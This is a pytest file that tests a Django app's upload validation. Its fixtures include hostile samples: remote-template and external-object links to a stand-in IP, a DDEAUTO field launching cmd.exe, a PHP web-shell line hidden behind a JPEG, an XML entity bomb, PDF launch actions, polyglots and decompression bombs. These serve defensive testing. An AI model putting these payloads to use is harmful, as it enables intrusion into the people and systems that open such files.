"""Attacks by upload: what deceives, runs, reaches out, floods or hides is refused with a sentence, and nothing is kept;
what an honest person has in the hand is taken in."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.test import Client
from django.utils import translation
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject, StreamObject

from tongban.accounts.testing import a_person, an_office
from tongban.cases import actions, queries
from tongban.catalog.testing import a_pack
from tongban.documents.actions import content_of, store_upload
from tongban.documents.contents import UploadRefused
from tongban.documents.models import StoredFile
from tongban.documents.previews import NoPreview, preview_of
from tongban.documents.testing import a_pdf, a_picture, an_upload
from tongban.kit.refusals import Invalid

pytestmark = pytest.mark.django_db
ALL = ["pdf", "jpg", "png", "docx", "xlsx"]
JPEG = a_picture(64, 48, "JPEG")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
FTYP = b"\0\0\0\x18ftyp%s\0\0\0\0mif1%s"


def take(name: str, content: bytes, accepts=ALL):
    return store_upload(a_person(), an_upload(name, content), accepts=accepts, most_megabytes=5)


def refusal(name: str, content: bytes, accepts=ALL) -> UploadRefused:
    with pytest.raises(UploadRefused) as refused:
        take(name, content, accepts)
    assert str(refused.value.sentence)
    assert str(refused.value.next_step)
    assert not StoredFile.objects.exists()
    return refused.value


def a_zip(parts: dict[str, bytes | str], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", kind) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return written.getvalue()


def a_docx(**more: bytes | str) -> bytes:
    return a_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", **more})


def relations(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )


def encrypted(user: str, owner: str, algorithm: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    writer.encrypt(user, owner, algorithm=algorithm)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def a_pdf_with(stream: bytes, **said: object) -> bytes:
    """A PDF whose page carries a stream that is packed as `said`."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    part = StreamObject()
    part._data = stream
    part.update({NameObject(f"/{name}"): value for name, value in said.items()})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/X"): writer._add_object(part)})
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


# ---------------------------------------------------------------- taken in


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_that_only_its_owner_may_edit_is_taken_in_and_looked_through(algorithm):
    stored = take("合同.pdf", encrypted("", "owner", algorithm))

    assert (stored.media_type, stored.pages) == ("application/pdf", 1)


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_a_pdf_that_needs_a_password_is_refused(algorithm):
    assert refusal("合同.pdf", encrypted("secret", "owner", algorithm)).code == "upload-locked"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("photo.jfif", "photo.jpg"),
        ("photo.pjpeg", "photo.jpg"),
        ("photo.JPE", "photo.jpg"),
        ("照片.jpeg", "照片.jpg"),
        ("mmexport1690000000000", "mmexport1690000000000.jpg"),
        ("IMG_1.HEIC", "IMG_1.jpg"),
        ("扫描件.png", "扫描件.jpg"),
        ("合同第1.2版", "合同第1.2版.jpg"),
        ("照片.jpg", "照片.jpg"),
    ],
)
def test_the_content_decides_and_the_name_gets_the_true_ending(name, kept):
    assert (take(name, JPEG).name, StoredFile.objects.get().media_type) == (kept, "image/jpeg")


def test_a_short_film_behind_a_photograph_is_what_phones_make():
    assert take("动态照片.jpg", JPEG + FTYP % (b"mp42", b"isom") + b"\0" * 100).media_type == "image/jpeg"


def test_a_docx_with_links_and_its_writers_own_template_is_taken_in():
    links = relations("hyperlink", "https://example.invalid/")
    own = relations("attachedTemplate", "file:///C:\\Users\\zhang\\Normal.dotm")
    content = a_docx(**{"word/_rels/document.xml.rels": links, "word/_rels/settings.xml.rels": own})

    assert take("申请.docx", content).name == "申请.docx"


# ---------------------------------------------------------------- called by its name


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("invoice.ofd", a_zip({"OFD.xml": "<ofd/>"}), "OFD"),
        ("发票.docx", a_zip({"OFD.xml": "<ofd/>"}), "OFD"),
        ("IMG.HEIC", FTYP % (b"heic", b"heic"), "HEIC"),
        ("IMG.jpg", FTYP % (b"mif1", b"heic"), "HEIC"),
        ("图.avif", FTYP % (b"avif", b"avif"), "AVIF"),
        ("图.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 40, "WebP"),
        ("扫描.tif", b"II*\0" + b"\0" * 40, "TIFF"),
        ("图.gif", b"GIF89a" + b"\0" * 40, "GIF"),
        ("图.bmp", b"BM" + b"\0" * 12 + b"\x28\0\0\0" + b"\0" * 40, "BMP"),
        ("申请.doc", OLE + "WordDocument".encode("utf-16-le"), ".doc"),
        ("申请.wps", OLE + "WordDocument".encode("utf-16-le"), ".wps"),
        ("名单.xls", OLE + "Workbook".encode("utf-16-le"), ".xls"),
        ("名单.et", OLE, ".et"),
        ("汇报.dps", OLE, ".dps"),
        ("汇报.ppt", OLE + "PowerPoint Document".encode("utf-16-le"), ".ppt"),
        ("材料.zip", a_zip({"1.jpg": JPEG}), "zip"),
        ("材料.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 40, "rar"),
        ("材料.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "7z"),
        ("录像.mp4", FTYP.replace(b"mif1", b"isom") % (b"isom", b"mp42"), "视频"),
        ("图纸.dwg", b"AC1027" + b"\0" * 40, "CAD"),
        ("网页.pdf", b"<html><script>alert(1)</script>", "HTML"),
        ("图.svg", b"<svg onload='x'/>", "SVG"),
        ("说明.txt", "我是张三。".encode("gb18030"), "纯文本"),
        ("程序.pdf", b"MZ\x90\0" + b"\0" * 200, "程序"),
    ],
)
def test_what_is_not_taken_in_is_called_by_its_name_with_what_to_do(name, content, says, settings):
    with translation.override("zh-hans"):
        refused = refusal(name, content)

    assert refused.code == "upload-type-not-accepted"
    assert says.lower() in f"{refused.sentence}".lower()
    assert "DOCX" not in f"{refused.sentence}"


def test_an_office_file_locked_with_a_password_is_said_to_be_locked():
    assert refusal("申请.docx", OLE + "EncryptedPackage".encode("utf-16-le")).code == "upload-locked"


# ---------------------------------------------------------------- deceives, runs, reaches out


@pytest.mark.parametrize("ending", ["exe", "html", "svg", "php", "js", "docm", "bat", "lnk"])
def test_only_an_ending_that_a_computer_would_run_is_a_lie(ending):
    assert refusal(f"照片.jpg.{ending}", JPEG).code == "upload-type-lies"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://203.0.113.9/t.dotm"),
        ("attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm"),
        ("attachedTemplate", "file://203.0.113.9/t.dotm"),
        ("attachedTemplate", "file:////203.0.113.9/t.dotm"),
        ("image", "https://203.0.113.9/pixel.png"),
        ("oleObject", "mhtml:http://203.0.113.9/x.html!x"),
        ("frame", "http://203.0.113.9/"),
        ("externalLinkPath", "http://203.0.113.9/list.xlsx"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_office_file_that_fetches_from_elsewhere_is_refused(kind, target, encoding):
    words = f'<?xml version="1.0" encoding="{encoding}"?>' + relations(kind, target)
    content = a_docx(**{"word/_rels/settings.xml.rels": words.encode(encoding)})

    assert refusal("申请.docx", content).code == "upload-unsafe"


def test_relations_with_entities_of_their_own_are_refused():
    bomb = '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>'

    assert refusal("申请.docx", a_docx(**{"word/_rels/x.rels": bomb})).code == "upload-unsafe"


def test_a_field_that_starts_a_program_is_refused():
    words = "<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:document>"
    content = a_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": words})

    assert refusal("申请.docx", content).code == "upload-unsafe"


@pytest.mark.parametrize("kind", ["/URI", "/Launch"])
@pytest.mark.parametrize("where", ["/OpenAction", "/AA", "/Next"])
@pytest.mark.parametrize("elsewhere", [False, True])
def test_a_pdf_that_leads_away_by_being_looked_at_is_refused(kind: str, where: str, elsewhere: bool):
    """Also where the word that says what the action does is written as an object of its own."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    name = writer._add_object(NameObject(kind)) if elsewhere else NameObject(kind)
    action = DictionaryObject({NameObject("/S"): name, NameObject("/F"): NameObject("/x")})
    if where == "/AA":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    else:
        first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/Next"): action})
        writer._root_object[NameObject("/OpenAction")] = first if where == "/Next" else action
    content = io.BytesIO()
    writer.write(content)

    assert refusal("材料.pdf", content.getvalue()).code == "upload-unsafe"


# ---------------------------------------------------------------- two in one


@pytest.mark.parametrize(
    "hidden", [a_zip({"run.exe": b"MZ"}), b"<script>alert(1)</script>", b"<?php system($_GET[0]);", a_pdf()]
)
@pytest.mark.parametrize("picture", [JPEG, a_picture()])
def test_a_second_file_behind_a_picture_is_found(picture, hidden):
    assert refusal("照片.jpg", picture + hidden).code == "upload-unsafe"


def test_a_pdf_that_is_an_archive_as_well_is_refused():
    assert refusal("合同.pdf", a_pdf() + a_zip({"run.exe": b"MZ"})).code == "upload-unsafe"


def test_a_docx_that_is_a_spreadsheet_as_well_is_refused():
    assert refusal("申请.docx", a_docx(**{"xl/workbook.xml": "<w/>"})).code == "upload-unsafe"


# ---------------------------------------------------------------- bombs, cuts


def a_wide_png(width: int, height: int) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")


@pytest.fixture
def narrow(monkeypatch):
    """The same bounds, small enough that a test need not unpack what they forbid."""
    monkeypatch.setattr("tongban.documents.contents.pdfs.MOST_UNPACKED", 1_000_000)
    monkeypatch.setattr("tongban.documents.contents.office.MOST_UNPACKED", 1_000_000)


def test_a_stream_that_unpacks_to_too_much_is_never_unpacked(narrow):
    flate = NameObject("/FlateDecode")
    packed = zlib.compress(b"\0" * 2_000_000)
    assert len(packed) < 4_000

    assert refusal("合同.pdf", a_pdf_with(packed, Filter=flate)).code == "upload-unsafe"


def test_a_picture_in_a_pdf_that_says_it_is_enormous_is_refused():
    size = {"Subtype": NameObject("/Image"), "Width": NumberObject(60_000), "Height": NumberObject(60_000)}

    assert refusal("合同.pdf", a_pdf_with(b"x", **size)).code == "upload-unsafe"


@pytest.mark.parametrize("size", [(30_000, 30_000), (1, 2_000_000_000)])
def test_a_tiny_picture_that_says_it_is_enormous_is_refused(size):
    assert refusal("图.png", a_wide_png(*size)).code in {"upload-unsafe", "upload-damaged"}


def test_an_office_file_that_unpacks_to_too_much_is_refused(narrow):
    assert refusal("申请.docx", a_docx(**{"word/media/1.bin": b"\0" * 2_000_000})).code == "upload-unsafe"


@pytest.mark.parametrize("share", [0.2, 0.5, 0.9])
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("照片.jpg", a_picture(600, 400, "JPEG")),
        ("图.png", a_picture(600, 400)),
        ("申请.docx", a_docx(**{"word/a.xml": "<a/>" * 50})),
    ],
)
def test_a_file_that_was_not_sent_whole_is_said_to_be_damaged(name, content, share):
    assert refusal(name, content[: int(len(content) * share)]).code == "upload-damaged"


def test_an_empty_file_is_said_to_be_empty():
    assert refusal("空.pdf", b"").code == "upload-empty"


# ---------------------------------------------------------------- floods


def test_one_person_cannot_fill_the_disk_within_a_day(settings):
    person = a_person()
    store_upload(person, an_upload("1.png", a_picture(50)), accepts=ALL)
    settings.UPLOADS_PER_DAY_BYTES = StoredFile.objects.get().size + 10

    with pytest.raises(UploadRefused) as refused:
        store_upload(person, an_upload("2.png", a_picture(60)), accepts=ALL)

    assert (refused.value.code, refused.value.status) == ("upload-quota", 429)
    assert store_upload(a_person(), an_upload("3.png", a_picture(70)), accepts=ALL).size


def test_the_same_file_sent_twice_is_one_row():
    person = a_person()
    first, second = (store_upload(person, an_upload("1.png"), accepts=ALL) for _press in range(2))

    assert first == second


# ---------------------------------------------------------------- previews


def a_photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was held upright
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 20.0)
    written = io.BytesIO()
    Image.new("RGB", (640, 320), (20, 90, 160)).save(written, "JPEG", exif=exif)
    return written.getvalue()


def test_a_preview_is_upright_and_says_nothing_of_where_it_was_taken():
    stored = take("照片.jpg", a_photo_with_place())
    assert stored.has_place
    assert content_of(stored) == a_photo_with_place()  # the evidence itself is never changed

    with Image.open(io.BytesIO(preview_of(stored, width=160))) as shown:
        assert shown.height > shown.width
        assert not shown.getexif()
    with Image.open(io.BytesIO(preview_of(stored, width=160, turn=90))) as shown:
        assert shown.width > shown.height


def test_a_page_of_a_pdf_is_drawn_also_where_its_owner_has_locked_editing():
    stored = take("合同.pdf", encrypted("", "owner", "AES-256"))

    with Image.open(io.BytesIO(preview_of(stored, width=160))) as shown:
        assert (shown.format, shown.width) == ("JPEG", 160)


@pytest.mark.parametrize("asked", [{"page": 0}, {"page": 2}, {"page": 10**9}])
def test_a_page_that_is_not_there_has_no_preview(asked):
    with pytest.raises(NoPreview):
        preview_of(take("合同.pdf", a_pdf()), **asked)


@pytest.mark.parametrize("asked", [{"width": 100_000}, {"width": 161}, {"turn": 45}])
def test_previews_come_in_a_few_sizes_only(asked):
    with pytest.raises(Invalid):
        preview_of(take("图.png", a_picture()), **asked)


def test_a_stranger_sees_no_preview_and_learns_nothing(client: Client):
    stored = take("图.png", a_picture())
    client.force_login(a_person())

    assert client.get(f"/documents/files/{stored.pk}/preview/").status_code == 404
    client.force_login(stored.owner)
    shown = client.get(f"/documents/files/{stored.pk}/preview/?width=160&turn=90")
    assert (shown.status_code, shown.headers["Content-Type"]) == (200, "image/jpeg")
    for odd in ("width=9", "turn=x", "page=-1", "page=99999999999999999999", "width=٣"):
        assert 400 <= client.get(f"/documents/files/{stored.pk}/preview/?{odd}").status_code < 500


# ---------------------------------------------------------------- at the doors


def test_the_page_and_the_interface_answer_a_bad_file_with_the_same_words(client: Client):
    an_office()
    material = {"code": "photos", "name": {"zh": "照片"}, "ways": ["upload"]}
    case = actions.start(a_person(), a_pack(questions=[], situations=[], rules=[], materials=[material]).code)
    client.force_login(case.applicant)
    address = f"/cases/{case.number}/materials/photos/"

    for name, content, says in (("a.ofd", a_zip({"OFD.xml": "<ofd/>"}), "OFD"), ("空.png", b"", "文件是空的")):
        page = client.post(address, {"way": "upload", "file": an_upload(name, content)})
        assert page.status_code == 422
        assert says in page.content.decode()
    assert 'accept=".pdf,.jpg,.jpeg,.jpe,.jfif,.pjpeg,.pjp,.png,application/pdf,image/jpeg,image/png"' in (
        client.get(address).content.decode()
    )
    assert queries.materials_view(case, case.applicant)[0].files == ()
